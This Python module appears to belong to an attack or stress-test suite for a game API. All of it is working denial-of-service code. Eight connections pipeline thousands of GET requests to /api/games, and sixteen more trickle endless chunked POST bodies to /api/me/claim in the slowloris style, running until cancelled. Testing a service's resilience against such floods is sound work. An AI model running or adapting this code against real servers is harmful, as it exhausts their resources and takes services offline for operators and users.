"""Thousands of requests sent one behind the other, without waiting for an answer, and bodies that trickle."""

from __future__ import annotations

import asyncio

from attack.target import Target, forever

_REQUEST = b"GET /api/games HTTP/1.1\r\nHost: x\r\n\r\n"


async def attack(target: Target) -> None:
    """Until cancelled."""

    async def pipeline() -> None:
        reader, writer = await target.open()
        writer.write(_REQUEST * 5000)
        await reader.read()
        writer.close()

    async def trickle() -> None:
        _, writer = await target.open(1)
        writer.write(b"POST /api/me/claim HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        for _ in range(60_000):
            writer.write(b"1\r\n \r\n")
            await writer.drain()
            await asyncio.sleep(0.005)

    await forever(*[pipeline] * 8, *[trickle] * 16)
